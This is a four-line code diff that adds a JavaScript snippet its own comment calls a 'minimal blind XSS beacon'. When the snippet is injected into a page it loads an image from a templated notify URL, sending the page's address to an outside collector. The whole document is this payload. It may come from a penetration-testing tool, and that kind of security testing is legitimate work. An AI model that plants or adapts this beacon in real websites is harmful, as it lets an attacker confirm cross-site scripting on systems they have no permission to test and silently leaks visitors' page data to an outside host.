@@ -0,0 +1,4 @@
+// Minimal blind XSS beacon: one image request carrying the page URL.
+(function () {
+  new Image().src = {{notify_url}} + "&url=" + encodeURIComponent(location.href);
+})();